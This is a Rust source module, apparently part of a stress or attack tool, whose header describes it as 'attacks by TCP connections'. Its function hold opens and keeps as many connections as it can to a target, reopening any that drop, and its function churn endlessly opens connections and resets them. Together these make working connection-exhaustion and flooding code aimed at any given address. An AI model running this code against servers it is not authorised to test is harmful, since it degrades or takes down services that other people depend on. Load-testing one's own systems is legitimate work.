//! Attacks by TCP connections: as many as there can be, or as often as there can be.

use std::io::{self, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use socket2::{Domain, SockRef, Socket, Type};

use super::counts::Counts;

/// What takes longer is given up.
const PATIENCE: Duration = Duration::from_secs(3);
/// After what was refused.
pub(super) const PAUSE: Duration = Duration::from_millis(1);
/// Between two looks at connections that are all there.
pub(super) const GLANCE: Duration = Duration::from_millis(100);
/// After so many tries it is looked which connections are still there.
const LOOK: usize = 256;

/// What is said on a new connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Greeting {
    None,
    Byte,
}

/// Opens a number of connections and keeps them; those that were closed by the other side are opened again.
pub(super) fn hold(to: SocketAddr, wanted: usize, greeting: Greeting, counts: &Counts) {
    let mut held = Vec::with_capacity(wanted);
    loop {
        for _ in held.len()..wanted.min(held.len() + LOOK) {
            match open(to, greeting) {
                Ok(stream) => {
                    held.push(stream);
                    counts.opened(1);
                }
                Err(_) => refused(counts),
            }
        }
        let before = held.len();
        held.retain(is_there);
        let gone = (before - held.len()) as u64;
        counts.closed(gone);
        counts.refused(gone);
        if held.len() == wanted {
            thread::sleep(GLANCE);
        }
    }
}

/// Opens connections and resets them.
pub(super) fn churn(to: SocketAddr, counts: &Counts) {
    loop {
        let opened = open(to, Greeting::Byte);
        // Closed without lingering, it is reset.
        match opened.and_then(|stream| SockRef::from(&stream).set_linger(Some(Duration::ZERO))) {
            Ok(()) => {
                counts.opened(1);
                counts.closed(1);
            }
            Err(_) => refused(counts),
        }
    }
}

/// Connects, and has reads and writes wait for nothing from then on.
fn open(to: SocketAddr, greeting: Greeting) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(to), Type::STREAM, None)?;
    socket.connect_timeout(&to.into(), PATIENCE)?;
    let mut stream = TcpStream::from(socket);
    stream.set_nonblocking(true)?;
    if greeting == Greeting::Byte {
        stream.write_all(b"a")?;
    }
    Ok(stream)
}

fn is_there(stream: &TcpStream) -> bool {
    match stream.peek(&mut [0]) {
        Ok(length) => length > 0,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    }
}

fn refused(counts: &Counts) {
    counts.refused(1);
    thread::sleep(PAUSE);
}
